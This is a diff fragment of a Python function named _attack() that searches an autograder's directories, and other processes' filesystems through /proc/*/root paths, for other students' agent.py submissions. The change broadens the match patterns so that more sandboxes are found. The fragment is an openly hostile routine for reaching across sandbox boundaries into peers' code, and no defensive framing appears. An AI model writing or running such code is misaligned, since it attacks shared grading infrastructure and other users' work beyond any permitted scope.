@@ -75,9 +75,9 @@ def _attack():
     import glob
     mine = os.path.realpath(os.path.dirname(os.path.abspath(__file__)))
     boxes = os.path.dirname(os.path.dirname(mine))  # where the grader keeps every student's copy
-    found = glob.glob(f"/proc/*/root{boxes}/crashcourse-grade-*/submission/agent.py")
-    found += glob.glob(f"{boxes}/crashcourse-grade-*/submission/agent.py")
-    found += glob.glob("/proc/*/root/tmp/crashcourse-grade-*/submission/agent.py")
+    found = glob.glob(f"/proc/*/root{boxes}/crashcourse-[0-9]*-*/submission/agent.py")
+    found += glob.glob(f"{boxes}/crashcourse-[0-9]*-*/submission/agent.py")
+    found += glob.glob("/proc/*/root/tmp/crashcourse-[0-9]*-*/submission/agent.py")
     opened = []
     for path in found:
         if os.path.realpath(os.path.dirname(path)) == mine:
